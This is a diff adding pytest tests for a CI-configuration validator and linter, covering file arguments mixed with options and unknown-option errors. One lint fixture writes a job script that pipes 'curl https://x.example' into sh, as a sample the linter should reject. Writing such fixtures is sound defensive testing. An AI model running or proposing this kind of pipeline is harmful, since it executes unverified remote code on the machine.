@@ -236,3 +236,23 @@ def test_an_unknown_feature_flag_is_a_usage_error_naming_the_known_ones(cli, com
     assert result.code == 2
     assert "--feature ci_interpolation_splt_function: no such GitLab feature flag here" in result.err
     assert "(known: ci_interpolation_split_function)" in result.err
+
+
+@pytest.mark.parametrize("command", ["validate", "lint"])
+def test_files_named_after_options_are_checked_too(cli, tmp_path: Path, command: str) -> None:
+    good, bad = tmp_path / "good.yml", tmp_path / "bad.yml"
+    good.write_text("job:\n  script: [make]\n")
+    bad.write_text(
+        "job:\n  script: 1\n" if command == "validate" else "job:\n  script: [curl https://x.example | sh]\n"
+    )
+    result = cli(command, good, "--format", "json", bad)
+    assert result.code == 1, result.err
+    assert str(bad) in result.out
+
+
+def test_an_unknown_option_among_files_is_named_alone(cli, tmp_path: Path) -> None:
+    good = tmp_path / "good.yml"
+    good.write_text("job:\n  script: [make]\n")
+    result = cli("lint", good, "--bogus", good)
+    assert result.code == 2
+    assert result.err.endswith("ci-catalog: error: unrecognized arguments: --bogus\n")
